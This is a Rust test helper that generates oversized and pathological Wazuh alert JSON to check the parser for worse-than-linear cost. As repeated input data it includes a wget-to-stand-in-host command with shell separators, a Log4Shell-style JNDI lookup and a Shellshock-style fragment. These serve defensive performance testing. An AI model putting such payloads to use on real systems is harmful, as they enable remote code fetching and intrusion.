//! Alerts that cost more than they should, if anything in the crate is worse than linear.

#![allow(dead_code, reason = "every test target takes what it needs")]
#![allow(clippy::unwrap_used, reason = "only tests use this")]
#![allow(clippy::too_many_lines, reason = "a table of shapes")]

use std::fmt::Write as _;
use std::time::Duration;

use wazuh_model::{Alert, OwnNetworks};

/// A name, and how to make an alert of about so many bytes.
pub(crate) type Shape = (&'static str, fn(usize) -> Vec<u8>);

/// Every shape. None of them says anything; all of them are read.
pub(crate) fn all() -> Vec<Shape> {
    vec![
        ("one key over and over", |size| object(&repeat("\"k\":1", size))),
        ("one list over and over", |size| {
            numbered(size, |n| format!("\"k\":[{n}]"))
        }),
        ("one object over and over", |size| {
            numbered(size, |n| format!("\"k\":{{\"a{n}\":1}}"))
        }),
        ("objects that merge at every level", |size| {
            let depth = 60;
            let list = repeat("7", size / 2);
            let mut value = format!("{{\"k\":[{list}],\"k\":[1]}}");
            for _ in 0..depth {
                value = format!("{{\"a\":{value},\"a\":{{\"k\":[2]}}}}");
            }
            value.into_bytes()
        }),
        ("keys that repeat only for integratord", |size| {
            numbered(size, |n| format!("\"k\\u0000{n}\":[{n}]"))
        }),
        ("fields in a text of a finding", |size| {
            told(&repeat("a={b=[{c=d", size).replace(',', ", "))
        }),
        ("names in a text of a finding", |size| told(&"a=".repeat(size / 2))),
        ("braces in a text of a finding", |size| {
            told(&format!("{}a=b", "{".repeat(size)))
        }),
        ("JSON in a text of a finding", |size| {
            told(&format!("{{{}}}", numbered_body(size, |n| format!("\\\"k{n}\\\":{n}"))))
        }),
        ("colons in what a cloud refused", |size| {
            data(&format!(
                "\"aws\":{{\"eventName\":\"x\",\"errorMessage\":\"{}\"}}",
                ": ".repeat(size / 2)
            ))
        }),
        ("many keys", |size| numbered(size, |n| format!("\"k{n}\":{n}"))),
        ("many keys with dots", |size| {
            data(&numbered_body(size, |n| format!("\"a.b.{n}.c\":\"x\"")))
        }),
        ("one long key", |size| data(&format!("\"{}\":1", "a.".repeat(size / 2)))),
        ("leaves below one long key", |size| {
            let inner = numbered_body(size / 2, |n| format!("\"{n}\":\"203.0.113.9\""));
            data(&format!("\"{}\":{{{inner}}}", "srcip.".repeat(size / 12)))
        }),
        ("objects in objects", |size| nested("{\"a\":", "1", "}", size / 6)),
        ("lists in lists", |size| {
            object(&format!(
                "\"a\":{}",
                String::from_utf8(nested("[", "", "]", size / 2)).unwrap()
            ))
        }),
        ("lists in lists, side by side", |size| {
            let one = format!("{}1{}", "[".repeat(100), "]".repeat(100));
            data(&format!("\"a\":[{}]", repeat(&one, size)))
        }),
        ("deep text again and again", |size| {
            let one = format!("{}1{}", "[".repeat(500), "]".repeat(500));
            data(&format!("\"a\":[{}]", repeat(&one, size)))
        }),
        ("backslashes", |size| eventdata("commandLine", &"\\\\".repeat(size / 2))),
        ("quotation marks", |size| {
            eventdata("commandLine", &"\\\"".repeat(size / 2))
        }),
        ("NUL characters", |size| {
            eventdata("commandLine", &"\\u0000".repeat(size / 6))
        }),
        ("lone surrogates", |size| {
            eventdata("commandLine", &"\\ud800".repeat(size / 6))
        }),
        ("many fields beside a long command", |size| {
            let fields = numbered_body(size / 2, |n| format!("\"f{n}\":\"x\""));
            data(&format!("\"cmdline\":\"{}\",{fields}", "ab ".repeat(size / 6)))
        }),
        ("starts of a URL", |size| {
            eventdata("commandLine", &"http://".repeat(size / 7))
        }),
        ("ends of a scheme", |size| {
            eventdata("commandLine", &"://".repeat(size / 3))
        }),
        ("a scheme without an end", |size| {
            eventdata("commandLine", &"a".repeat(size))
        }),
        ("URLs", |size| {
            eventdata("scriptBlockText", &words(size, |n| format!("http://a{n}.example/x")))
        }),
        ("one URL of many parts", |size| {
            eventdata("commandLine", &format!("http://{}", "a.".repeat(size / 2)))
        }),
        ("signs of a shell behind a URL", |size| {
            let signs = ["&", ";", "$", "$a=", "&a=1", ";b;c"].map(|signs| signs.repeat(size / 12 / signs.len()));
            let urls = signs.map(|signs| format!("wget http://a.example/x{signs} ? "));
            eventdata("commandLine", &urls.concat())
        }),
        ("payloads in a request", |size| {
            let pieces = ["${", "${jndi:ldap://a.example/b}", r#"\"() { ://a'@"#];
            let text = pieces.map(|piece| piece.repeat(size / 3 / piece.len())).concat();
            field("url", &text)
        }),
        ("encoded URLs", |size| {
            field(
                "url",
                &format!("/?u={}", "http%253A%252F%252Fa.example%252F&".repeat(size / 34)),
            )
        }),
        ("percent signs", |size| {
            field("url", &format!("/?u=http%3A%2F%2F{}", "%25".repeat(size / 3)))
        }),
        ("defanged dots", |size| {
            eventdata("commandLine", &format!("hxxp://{}", "a[.]".repeat(size / 4)))
        }),
        ("open brackets", |size| {
            eventdata("commandLine", &"http://[".repeat(size / 8))
        }),
        ("braces of a look-up", |size| {
            field("srcuser", &format!("{}://x", "${jndi:".repeat(size / 7)))
        }),
        ("addresses", |size| {
            eventdata(
                "commandLine",
                &words(size, |n| format!("203.0.{}.{}", n / 256 % 256, n % 256)),
            )
        }),
        ("near addresses", |size| {
            eventdata("commandLine", &"1.2.3.4.5.6.".repeat(size / 12))
        }),
        ("colons", |size| eventdata("commandLine", &"::1".repeat(size / 3))),
        ("a list of near addresses", |size| {
            data(&format!(
                "\"srcip\":[{}]",
                numbered_body(size, |n| format!("\"1.2.3.{n}\""))
            ))
        }),
        ("a list of addresses in objects", |size| {
            let one = |n: usize| format!("{{\"srcip\":\"203.0.{}.{}\"}}", n / 256 % 256, n % 256);
            data(&format!("\"l\":[{}]", numbered_body(size, one)))
        }),
        ("hashes", |size| {
            eventdata("hashes", &words(size, |n| format!("MD5={n:032x}")).replace(' ', ","))
        }),
        ("hashes that are none", |size| {
            eventdata("hashes", &words(size, |n| format!("{n:033x}")).replace(' ', ","))
        }),
        ("senders", |size| {
            field("sender", &words(size, |n| format!("a{n}@b.example")))
        }),
        ("at signs", |size| field("sender", &"@".repeat(size))),
        ("users", |size| {
            data(&format!(
                "\"l\":[{}]",
                numbered_body(size, |n| format!("{{\"srcuser\":\"u{n}\"}}"))
            ))
        }),
        ("long users of one length", |size| {
            let one = |n: usize| format!("{{\"srcuser\":\"{}{n:06}\"}}", "u".repeat(1_000));
            data(&format!("\"l\":[{}]", numbered_body(size, one)))
        }),
        ("files", |size| {
            let one = |n: usize| format!("{{\"targetFilename\":\"C:/{}/{n:06}\"}}", "f".repeat(200));
            data(&format!("\"l\":[{}]", numbered_body(size, one)))
        }),
        ("temporary names", |size| {
            eventdata("commandLine", &"/tmp/ \\\\\\\\temp\\\\\\\\".repeat(size / 20))
        }),
        ("temporary names beside a command", |size| {
            data(&format!(
                "\"process\":{{\"command_line\":\"qq\"}},\"msg\":\"{}\"",
                "/tmp/".repeat(size / 5)
            ))
        }),
        ("near GUIDs", |size| {
            eventdata("commandLine", &"00000000-0000-0000-0000-00000000000g".repeat(size / 36))
        }),
        ("security ids", |size| {
            eventdata("commandLine", &"S-1-".repeat(size / 4))
        }),
        ("blanks", |size| eventdata("commandLine", &" ".repeat(size))),
        ("a log line of one word", |size| {
            object(&format!("\"full_log\":\"{}\"", "from ".repeat(size / 5)))
        }),
        ("a log line of key words", |size| {
            object(&format!(
                "\"decoder\":{{\"name\":\"sshd\"}},\"full_log\":\"{}\"",
                "rhost= from port user=".repeat(size / 22)
            ))
        }),
        ("machines", |size| {
            data(&numbered_body(size, |n| format!("\"k{n}_host\":\"h{n}\"")))
        }),
        ("groups", |size| {
            object(&format!(
                "\"rule\":{{\"id\":\"1\",\"groups\":[{}]}}",
                numbered_body(size, |n| format!("\"authenticatio{n}\""))
            ))
        }),
        ("compliance lists", |size| {
            object(&format!(
                "\"rule\":{{\"id\":\"1\",{}}}",
                numbered_body(size, |n| format!("\"c{n}\":[\"1\"]"))
            ))
        }),
        ("techniques", |size| {
            object(&format!(
                "\"rule\":{{\"id\":\"1\",\"mitre\":{{\"id\":[{}]}}}}",
                numbered_body(size, |n| format!("\"T{n}\""))
            ))
        }),
        ("arguments", |size| {
            data(&format!(
                "\"audit\":{{\"execve\":{{{}}}}}",
                numbered_body(size, |n| format!("\"a{n}\":\"http://a{n}.example/\""))
            ))
        }),
        ("columns", |size| {
            object(&format!(
                "\"location\":\"osquery\",\"data\":{{\"name\":\"n\",\"columns\":{{{}}}}}",
                numbered_body(size, |n| format!("\"c{n}\":\"{n}\""))
            ))
        }),
        ("event data without a role", |size| {
            object(&format!(
                "\"data\":{{\"win\":{{\"system\":{{\"eventID\":\"1\",\"computer\":\"a.b.example\"}},\"eventdata\":{{{}}}}}}}",
                numbered_body(size, |n| format!("\"param{n}\":\"x {n} y\""))
            ))
        }),
        ("parameters of a mail rule", |size| {
            data(&format!(
                "\"office365\":{{\"UserId\":\"a@corp.example\",\"Parameters\":[{}]}}",
                numbered_body(size, |n| format!(
                    "{{\"Name\":\"ForwardTo\",\"Value\":\"a{n}@b.example\"}}"
                ))
            ))
        }),
        ("a finding of many addresses", |size| {
            object(&format!(
                "\"wazuh\":{{\"rule\":{{\"id\":\"x\",\"level\":\"low\"}}}},\"related\":{{\"ip\":[{}]}}",
                numbered_body(size, |n| format!("\"203.0.{}.{}\"", n / 256 % 256, n % 256))
            ))
        }),
        ("byte order marks", |size| {
            let mut bytes = b"\xef\xbb\xbf".repeat(size / 3);
            bytes.extend_from_slice(b"{}");
            bytes
        }),
    ]
}

/// Asks an alert everything that it can be asked.
pub(crate) fn everything(bytes: &[u8]) {
    let alert = Alert::from_slice(bytes).unwrap();
    let own = OwnNetworks::new(["8.8.8.0/24".parse().unwrap()], ["corp.example"]);
    std::hint::black_box((
        alert.leaves(),
        alert.actors(),
        alert.view(),
        alert.indicators(&own),
        alert.fingerprint(),
        alert.uuid(),
        alert.source_ref(),
    ));
    std::hint::black_box((
        alert.rule(),
        alert.compliance(),
        alert.agent(),
        alert.time(),
        alert.assets(),
    ));
}

/// Gives the time that this thread has spent on a processor: what others do meanwhile does not count. `None` off Linux.
pub(crate) fn time_on_a_processor() -> Option<Duration> {
    let line = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    Some(Duration::from_nanos(line.split(' ').next()?.parse().ok()?))
}

fn repeat(one: &str, size: usize) -> String {
    vec![one; (size / (one.len() + 1)).max(1)].join(",")
}

fn words(size: usize, word: impl Fn(usize) -> String) -> String {
    let mut text = String::with_capacity(size + 100);
    for n in 0.. {
        if text.len() >= size {
            break;
        }
        let _ = write!(text, "{} ", word(n));
    }
    text
}

fn numbered_body(size: usize, one: impl Fn(usize) -> String) -> String {
    let mut text = String::with_capacity(size + 100);
    for n in 0.. {
        if text.len() >= size {
            break;
        }
        if n > 0 {
            text.push(',');
        }
        text.push_str(&one(n));
    }
    text
}

fn numbered(size: usize, one: impl Fn(usize) -> String) -> Vec<u8> {
    object(&numbered_body(size, one))
}

fn nested(open: &str, inner: &str, close: &str, depth: usize) -> Vec<u8> {
    format!("{}{inner}{}", open.repeat(depth), close.repeat(depth)).into_bytes()
}

fn object(inner: &str) -> Vec<u8> {
    format!("{{{inner}}}").into_bytes()
}

fn data(inner: &str) -> Vec<u8> {
    object(&format!("\"data\":{{{inner}}}"))
}

/// A call to a cloud, as Wazuh 5 tells of it.
fn told(text: &str) -> Vec<u8> {
    format!(
        r#"{{"wazuh":{{"rule":{{"id":"1"}},"integration":{{"category":"cloud-services"}}}},"user":{{"name":"bob"}},"event":{{"action":"x"}},"aws":{{"cloudtrail":{{"request_parameters":"{{{text}}}"}}}}}}"#
    )
    .into_bytes()
}

fn field(name: &str, text: &str) -> Vec<u8> {
    data(&format!("\"{name}\":\"{text}\""))
}

fn eventdata(name: &str, text: &str) -> Vec<u8> {
    data(&format!(
        "\"win\":{{\"system\":{{\"eventID\":\"1\",\"providerName\":\"Microsoft-Windows-Sysmon\"}},\"eventdata\":{{\"{name}\":\"{text}\"}}}}"
    ))
}
